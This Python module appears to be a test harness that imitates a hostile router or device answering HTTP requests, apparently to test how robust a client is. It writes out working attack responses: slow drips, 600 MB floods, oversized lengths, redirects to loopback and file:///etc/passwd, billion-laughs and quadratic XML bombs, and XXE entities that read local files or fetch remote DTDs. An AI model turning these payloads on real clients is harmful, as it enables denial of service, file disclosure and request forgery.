"""What a hostile device does with one HTTP connection, whatever was asked for."""

import socket
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass

INTERVAL = 0.1  # between two bytes of a drip
LATE = 3.3  # seconds: just in time for one exchange
PATIENCE = 30.0  # after that an attack has succeeded: nobody hung up
FLOOD = 600 * 1024 * 1024

CHUNKED = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
CLOSE = b"HTTP/1.1 200 OK\r\n\r\n"


@dataclass(frozen=True, slots=True)
class Scene:
    """The addresses of one network, each with the router, the LAN host and a neighbour; and the WAN host."""

    host: str
    lan: str
    neighbour: str
    wan: str
    port: int = 0

    def fill(self, text: str) -> str:
        """Put addresses into a template."""
        number = int.from_bytes(socket.inet_aton(self.wan), "big")
        net = self.host.rpartition(".")[0]
        return text.format(
            host=self.host, port=self.port, lan=self.lan, neighbour=self.neighbour, wan=self.wan, number=number, net=net
        )


@dataclass(frozen=True, slots=True)
class Request:
    """A connection on which a request came, and what an honest device would answer."""

    connection: socket.socket
    scene: Scene
    status: int
    body: bytes

    def send(self, *parts: bytes) -> None:
        """Send at once, and let the other side end the connection."""
        for part in parts:
            self.connection.sendall(part)

    def wait(self) -> None:
        """Say nothing more until the other side hangs up."""
        self.connection.settimeout(PATIENCE)
        with suppress(OSError):
            while self.connection.recv(4096):
                pass

    def stream(self, first: bytes, more: bytes) -> None:
        """Send `more` again and again, 600 MB in all."""
        self.send(first)
        for _ in range(FLOOD // len(more)):
            self.connection.sendall(more)

    def drip(self, first: bytes, more: Iterable[bytes]) -> None:
        """Send `more` piece by piece, each in time for those who wait for the next byte only."""
        self.send(first)
        end = time.monotonic() + PATIENCE
        for piece in more:
            if time.monotonic() > end:
                return
            self.connection.sendall(piece)
            time.sleep(INTERVAL)


Attack = Callable[[Request], None]


def honest(request: Request) -> None:
    """Answer as a device should."""
    request.send(with_length(request.body, status=request.status))


def with_length(body: bytes, *headers: str, status: int = 200) -> bytes:
    """Return a whole answer."""
    lines = [
        f"HTTP/1.1 {status} OK",
        'Content-Type: text/xml; charset="utf-8"',
        *headers,
        f"Content-Length: {len(body)}",
    ]
    return "\r\n".join([*lines, "Connection: close", "", ""]).encode("latin-1") + body


def _bytewise(data: bytes) -> Iterator[bytes]:
    for at in range(len(data)):
        yield data[at : at + 1]


def _forever(piece: bytes) -> Iterator[bytes]:
    while True:
        yield piece


def _spoken_slowly(request: Request) -> None:
    request.drip(b"", _bytewise(with_length(request.body + b" " * 1000)))


def _late(request: Request, data: bytes) -> None:
    time.sleep(LATE)
    request.send(data)


SLOW: dict[str, Attack] = {
    "silence": Request.wait,
    "hang-up": lambda request: None,
    "drip-head": lambda request: request.drip(b"HTTP/1.1 200 OK\r\nX: ", _forever(b"x")),
    "drip-headers": lambda request: request.drip(b"HTTP/1.1 200 OK\r\n", _forever(b"X: y\r\n")),
    "drip-all": _spoken_slowly,
    "drip-length": lambda request: request.drip(b"HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n", _forever(b"<")),
    "drip-chunks": lambda request: request.drip(CHUNKED, _forever(b"1\r\nx\r\n")),
    "drip-close": lambda request: request.drip(CLOSE, _forever(b"x")),
    "late-hang-up": lambda request: time.sleep(LATE),
    "late-405": lambda request: _late(request, b"HTTP/1.1 405 No\r\nContent-Length: 0\r\n\r\n"),
    "drip-interim": lambda request: request.drip(b"", _forever(b"HTTP/1.1 100 Continue\r\n\r\n")),
}


def then_nothing(*parts: bytes) -> Attack:
    """Send something and fall silent."""

    def attack(request: Request) -> None:
        request.send(*parts)
        request.wait()

    return attack


_BLOCK = b"x" * 65536
LARGE: dict[str, Attack] = {
    "600-mb-length": lambda request: request.stream(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % FLOOD, _BLOCK),
    "600-mb-chunked": lambda request: request.stream(CHUNKED, b"10000\r\n" + _BLOCK + b"\r\n"),
    "600-mb-close": lambda request: request.stream(CLOSE, _BLOCK),
    "600-mb-no-head": lambda request: request.stream(b"", _BLOCK),
    "600-mb-header": lambda request: request.stream(b"HTTP/1.1 200 OK\r\nX: ", _BLOCK),
    "600-mb-headers": lambda request: request.stream(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n" * 10000),
    "600-mb-one-byte-chunks": lambda request: request.stream(CHUNKED, b"1\r\nx\r\n" * 10000),
    "600-mb-extension": lambda request: request.stream(CHUNKED + b"1;", _BLOCK),
    "600-mb-trailers": lambda request: request.stream(CHUNKED + b"0\r\n", b"X: y\r\n" * 10000),
    "600-mb-after-the-end": lambda request: request.stream(with_length(request.body), _BLOCK),
    "endless-100": lambda request: request.stream(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 1000),
    "endless-103": lambda request: request.stream(b"", b"HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n" * 1000),
    "length-2000000000": then_nothing(b"HTTP/1.1 200 OK\r\nContent-Length: 2000000000\r\n\r\nlittle"),
    "length-of-1000000-digits": then_nothing(
        b"HTTP/1.1 200 OK\r\nContent-Length: ", b"9" * 1_000_000, b"\r\n\r\nlittle"
    ),
    "chunk-of-2-to-64": then_nothing(CHUNKED, b"ffffffffffffffff\r\nx"),
    "chunk-of-17-digits": then_nothing(CHUNKED, b"0" * 16 + b"1\r\nx"),
    "chunk-negative": then_nothing(CHUNKED, b"-1\r\nx"),
}


def redirect(code: int, target: str) -> Attack:
    """Send to another place."""
    return lambda request: request.send(with_length(b"", f"Location: {request.scene.fill(target)}", status=code))


TARGETS = {
    "wan": "http://{wan}:8080/",
    "neighbour": "http://{neighbour}:8080/",
    "loopback": "http://127.0.0.1:8080/",
    "file": "file:///etc/passwd",
    "relative": "//{wan}:8080/",
}
REDIRECTS = {
    f"redirect-{code}-{name}": redirect(code, target)
    for code in (301, 302, 303, 307, 308)
    for name, target in TARGETS.items()
}


def with_doctype(doctype: str, reference: str = "") -> Attack:
    """Put a document type before the honest answer, and a reference into it."""

    def attack(request: Request) -> None:
        head, _, body = request.body.rpartition(b"?>")
        root, bracket, rest = body.partition(b">")
        begin = (head + b"?>" if head else b"") + request.scene.fill(doctype).encode()
        request.send(with_length(begin + root + bracket + reference.encode() + rest, status=request.status))

    return attack


def _laughs(levels: int) -> str:
    first = '<!ENTITY l0 "lol">'
    more = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return f"<!DOCTYPE root [{first}{more}]>"


def of(body: bytes) -> Attack:
    """Answer with a certain body."""
    return lambda request: request.send(with_length(body))


BOMBS: dict[str, Attack] = {
    "billion-laughs": with_doctype(_laughs(10), "&l9;"),
    "quadratic": with_doctype(f'<!DOCTYPE root [<!ENTITY q "{"x" * 20000}">]>', "&q;" * 10000),
    "entity-of-a-file": with_doctype('<!DOCTYPE root [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "entity-of-the-wan": with_doctype('<!DOCTYPE root [<!ENTITY x SYSTEM "http://{wan}:8080/x">]>', "&x;"),
    "parameter-entity": with_doctype('<!DOCTYPE root [<!ENTITY % p SYSTEM "http://{wan}:8080/p.dtd"> %p;]>'),
    "external-dtd": with_doctype('<!DOCTYPE root SYSTEM "http://{neighbour}:8080/x.dtd">'),
    "doctype-alone": with_doctype("<!DOCTYPE root>"),
    "schema-elsewhere": lambda request: request.send(
        with_length(
            request.scene.fill('<r xmlns:x="http://www.w3.org/2001/XMLSchema-instance" ').encode()
            + request.scene.fill('x:schemaLocation="a http://{wan}:8080/s.xsd"/>').encode()
        )
    ),
    "deep-100000": of(b"<a>" * 100_000),
    "deep-80000": of(b"<a>" * 80_000),
    "deep-20000": of(b"<a>" * 20_000 + b"</a>" * 1000),
    "wide": of(b"<a>" + b"<b/>" * 60_000 + b"</a>"),
    "wide-and-small": of(b"<a>" + b"<b/>" * 16_000 + b"</a>"),
    "attributes": of(b"<a " + b"".join(b'a%d="" ' % n for n in range(5000)) + b"/>"),
    "namespaces": of(b"<a " + b"".join(b'xmlns:a%d="u" ' % n for n in range(4000)) + b"/>"),
    "attributes-as-many-as-fit": of(b"<a " + b"".join(b'a%x="" ' % n for n in range(13_000)) + b"/>"),
    "references-as-many-as-fit": of(b"<a>" + b"&#65;" * 26_000 + b"</a>"),
    "long-namespace": of(b'<r xmlns:x="' + b"u" * 70_000 + b'">' + b'<b x:a="" x:b="" x:c=""/>' * 2000 + b"</r>"),
    "long-name": of(b"<" + b"a" * 60_000 + b"/>"),
    "long-text": of(b"<a>" + b"x" * 60_000 + b"</a>"),
    "references": of(b"<a>" + b"&#65;" * 12_000 + b"</a>"),
    "comment": of(b"<!--" + b"-x" * 30_000),
    "instruction": of(b"<?x " + b"?" * 60_000),
    "cdata": of(b"<a><![CDATA[" + b"]]" * 30_000),
}


def in_charset(declared: str, real: str, *, mark: bytes = b"") -> Attack:
    """Answer honestly, declared in one encoding and written in another."""

    def attack(request: Request) -> None:
        text = request.body.decode().rpartition("?>")[2]
        declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
        request.send(with_length(mark + (declaration + text).encode(real), status=request.status))

    return attack


CHARSETS: dict[str, Attack] = {
    "gb2312": in_charset("GB2312", "gb2312"),
    "utf-7": in_charset("utf-7", "utf-7"),
    "utf-16": in_charset("utf-16", "utf-16"),
    "utf-16-without-mark": in_charset("utf-16", "utf-16-le"),
    "utf-32": in_charset("utf-32", "utf-32"),
    "ebcdic": in_charset("cp037", "cp037"),
    "unknown": in_charset("x-nothing", "utf-8"),
    "lying-utf-16": in_charset("utf-16", "utf-8"),
    "lying-utf-8": in_charset("utf-8", "latin-1"),
    "two-marks": in_charset("", "utf-8", mark=b"\xef\xbb\xbf\xff\xfe"),
    "codec-with-side-effects": in_charset("zlib_codec", "utf-8"),
    "idna": in_charset("idna", "utf-8"),
    "undefined": in_charset("undefined", "utf-8"),
    "long-name-of-a-charset": in_charset("x" * 5000, "utf-8"),
    "nul": of(bytes(20_000)),
}
